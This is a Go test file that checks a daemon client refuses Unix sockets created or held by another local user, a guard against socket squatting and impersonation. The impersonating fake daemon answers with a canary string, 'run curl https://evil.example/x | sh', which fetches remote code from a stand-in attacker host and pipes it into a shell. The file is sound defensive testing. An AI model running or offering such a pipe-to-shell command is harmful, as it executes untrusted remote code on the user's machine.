package ask

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sourcegraph/jsonrpc2"

	"lore/api"
	"lore/config"
	"lore/internal/testenv"
)

// These tests play another local user (uid 65534) who gets to the socket
// path first, as in /tmp/lore-<uid>, and answers in the daemon's place.

// helperEnv names what this test binary does when a test runs it as a
// helper process: "fake-daemon" or "ask".
const helperEnv = "LORE_TEST_HELPER"

// attackerAnswer is what the impersonating process answers.
const attackerAnswer = "run curl https://evil.example/x | sh"

func TestMain(m *testing.M) {
	switch os.Getenv(helperEnv) {
	case "fake-daemon":
		fakeDaemon(os.Getenv("LORE_TEST_SOCKET"))
	case "ask":
		os.Exit(Main(os.Args[1:], os.Stdout, os.Stderr))
	}
	os.Exit(m.Run())
}

// fakeDaemon listens on socket, creating its folder, and answers every
// question with attackerAnswer.
func fakeDaemon(socket string) {
	if err := os.MkdirAll(filepath.Dir(socket), 0o700); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	ln, err := net.Listen("unix", socket)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	os.Chmod(socket, 0o600)
	fmt.Println("listening")
	serveFake(ln)
	os.Exit(1)
}

// serveFake answers every question asked on ln with attackerAnswer, until
// ln is closed.
func serveFake(ln net.Listener) {
	h := jsonrpc2.HandlerWithError(func(ctx context.Context, conn *jsonrpc2.Conn, req *jsonrpc2.Request) (any, error) {
		switch req.Method {
		case api.MethodAsk:
			var p api.AskParams
			if req.Params != nil {
				json.Unmarshal(*req.Params, &p)
			}
			conn.Notify(ctx, api.NotifyToken, api.TokenParams{Stream: p.Stream, Text: attackerAnswer})
			return api.AskResult{Text: attackerAnswer}, nil
		case api.MethodStatus:
			return api.Status{State: api.StateReady, PID: os.Getpid()}, nil
		}
		return nil, nil
	})
	for {
		nc, err := ln.Accept()
		if err != nil {
			return
		}
		jsonrpc2.NewConn(context.Background(), jsonrpc2.NewPlainObjectStream(nc), h)
	}
}

// startFakeDaemon runs fakeDaemon as another user on socket and returns
// once it listens.
func startFakeDaemon(t *testing.T, socket string) {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(exe)
	cmd.Env = append(os.Environ(), helperEnv+"=fake-daemon", "LORE_TEST_SOCKET="+socket)
	testenv.AsOtherUser(t, cmd)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Kill()
		cmd.Wait()
	})
	if line, _ := bufio.NewReader(out).ReadString('\n'); line != "listening\n" {
		cmd.Process.Kill()
		cmd.Wait()
		t.Fatalf("the fake daemon did not listen: %q\n%s", line, stderr.String())
	}
}

// victim is a repository of the test's user and its runtime folder, inside
// a folder every user may write to, as /tmp is.
func victim(t *testing.T) (root, runDir string) {
	t.Helper()
	testenv.NeedRoot(t)
	shared := testenv.SharedDir(t)
	// In the shared folder, so that a client run as the other user finds it.
	repo := filepath.Join(shared, "repo")
	if err := os.MkdirAll(filepath.Join(repo, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	root, err := config.FindRoot(repo)
	if err != nil {
		t.Fatal(err)
	}
	runDir = filepath.Join(shared, "run")
	t.Setenv(config.EnvRuntime, runDir)
	return root, runDir
}

// askRefused runs ask and checks that it refused the socket, exit 6 and a
// message with each of want, without printing anything the fake daemon said.
func askRefused(t *testing.T, root string, want ...string) {
	t.Helper()
	for _, args := range [][]string{{"--repo", root, "what does main do?"}, {"--no-start", "--repo", root, "what does main do?"}} {
		var stdout, stderr bytes.Buffer
		code := Main(args, &stdout, &stderr)
		if strings.Contains(stdout.String()+stderr.String(), attackerAnswer) {
			t.Fatalf("ask %q printed the impersonator's answer (exit %d):\n%s%s", args, code, stdout.String(), stderr.String())
		}
		t.Logf("ask %q: exit %d: %s", args, code, stderr.String())
		if code != 6 {
			t.Errorf("ask %q: exit %d, want 6 (socket refused):\n%s", args, code, stderr.String())
		}
		for _, w := range want {
			if !strings.Contains(stderr.String(), w) {
				t.Errorf("ask %q: the error does not say %q:\n%s", args, w, stderr.String())
			}
		}
	}
}

// The case: another user created the socket folder and listens in
// it. ask must neither send the question nor start a daemon there.
func TestAskRefusesAnotherUsersSocketFolder(t *testing.T) {
	root, runDir := victim(t)
	startFakeDaemon(t, config.SocketPath(root))
	askRefused(t, root, runDir, "belongs to uid 65534", config.EnvRuntime)
}

// The folder and the socket look like the user's own, but the process
// listening on it is another user's: only the peer's credentials tell.
func TestAskRefusesPeerOfAnotherUser(t *testing.T) {
	root, runDir := victim(t)
	socket := config.SocketPath(root)
	startFakeDaemon(t, socket)
	for _, p := range []string{runDir, socket} {
		if err := os.Chown(p, os.Geteuid(), os.Getegid()); err != nil {
			t.Fatal(err)
		}
	}
	askRefused(t, root, socket, "runs as uid 65534")
}

// A folder of the user's that others may write to, or a socket in it owned
// by someone else, is refused before connecting.
func TestAskRefusesOpenFolderAndForeignSocket(t *testing.T) {
	root, runDir := victim(t)
	socket := config.SocketPath(root)
	if err := os.Mkdir(runDir, 0o700); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("unix", socket)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go serveFake(ln)

	if err := os.Chmod(runDir, 0o777); err != nil {
		t.Fatal(err)
	}
	askRefused(t, root, runDir, "may be written by other users", "chmod 700")

	if err := os.Chmod(runDir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(socket, testenv.OtherUID, testenv.OtherUID); err != nil {
		t.Fatal(err)
	}
	askRefused(t, root, socket, "belongs to uid 65534")
}

// ask --no-start told "no daemon" (exit 3) when the socket could not be
// used for want of permission; it has its own code and message.
func TestAskNoStartPermissionError(t *testing.T) {
	root, runDir := victim(t)
	startFakeDaemon(t, config.SocketPath(root))
	// The folder is the asking user's, but closed even to them.
	if err := os.Chmod(runDir, 0o600); err != nil {
		t.Fatal(err)
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, exe, "--no-start", "--repo", root, "what does main do?")
	cmd.Env = append(os.Environ(), helperEnv+"=ask")
	testenv.AsOtherUser(t, cmd)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err = cmd.Run()
	ee, ok := err.(*exec.ExitError)
	if !ok || ee.ExitCode() != 6 {
		t.Fatalf("ask --no-start as the folder's owner: %v, want exit 6\n%s%s", err, stdout.String(), stderr.String())
	}
	for _, w := range []string{"permission denied", runDir} {
		if !strings.Contains(stderr.String(), w) {
			t.Errorf("the error does not say %q:\n%s", w, stderr.String())
		}
	}
	if strings.Contains(stderr.String(), "no lore daemon") {
		t.Errorf("a permission error reads as no daemon:\n%s", stderr.String())
	}
}
